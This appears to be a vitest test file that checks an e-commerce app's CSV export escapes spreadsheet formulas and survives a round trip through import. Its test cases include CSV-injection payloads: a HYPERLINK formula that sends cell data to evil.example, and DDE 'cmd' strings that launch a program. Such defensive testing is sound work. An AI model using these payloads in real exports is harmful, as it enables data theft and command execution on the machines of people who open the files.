import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { csvLine, liveCell, parseCsv } from "../../server/crud/transfer/csv.js";
import { createTestApp, testDialect, type TestApp } from "../helpers/test-app.js";
import { exportText, importFile } from "./transfer-helpers.js";

// Texts a spreadsheet would run as a formula, each as the one CSV writer must write it: after an
// apostrophe, shown as text. A plain number is no formula and stays a number.
const CASES: [string, string, string][] = [
  [
    "a formula",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
  ],
  ["a plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
  ["a minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["an at sign", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ["a tab", "\t=1+1", "'\t=1+1"],
  ["a carriage return", "\r=1+1", "'\r=1+1"],
  ["an apostrophe already before a formula", "'=1+1", "''=1+1"],
  ["a negative number", "-19.99", "-19.99"],
  ["a signed number", "+5", "+5"],
  ["an apostrophe before plain text", "'quoted", "'quoted"],
  ["plain text", "Leave at the door", "Leave at the door"],
];

describe("the one CSV writer makes formulas inert", () => {
  test.each(CASES)("%s", (_name, text, written) => {
    const [cell] = parseCsv(csvLine([text]))[0]!;
    expect(cell).toBe(written);
    // An import reads the text back as it was.
    expect(liveCell(cell!)).toBe(text);
  });
});

describe(`an order's comment in the admin's orders export, on ${testDialect}`, () => {
  let t: TestApp;
  const orders: Record<string, string> = {};

  beforeAll(async () => {
    t = await createTestApp();
    for (const [, text] of CASES) {
      const created = await t.request({
        method: "POST",
        url: "/api/ecommerce/orders",
        payload: { data: { type: "history", status: "new", receipt: "", comment: text } },
      });
      expect(created.status, JSON.stringify(created.body)).toBe(201);
      orders[created.body.data.id] = text;
    }
  });
  afterAll(async () => {
    await t?.close();
  });

  test("each comment is written inert, and importing the export back keeps every comment as it was", async () => {
    const exported = await exportText(t, "ecommerce/orders");
    expect(exported.status).toBe(200);
    const [header, ...rows] = parseCsv(exported.text);
    const id = header!.indexOf("id");
    const comment = header!.indexOf("comment");
    const written = Object.fromEntries(rows.map((row) => [row[id]!, row[comment]]));
    for (const [orderId, text] of Object.entries(orders))
      expect(written[orderId], text).toBe(CASES.find(([, t]) => t === text)![2]);

    const imported = await importFile(t, "ecommerce/orders", exported.text, "ecommerce-orders.csv");
    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
    for (const [orderId, text] of Object.entries(orders)) {
      expect((await t.request({ method: "GET", url: `/api/ecommerce/orders/${orderId}` })).body.data.comment).toBe(
        text,
      );
    }
  });
});
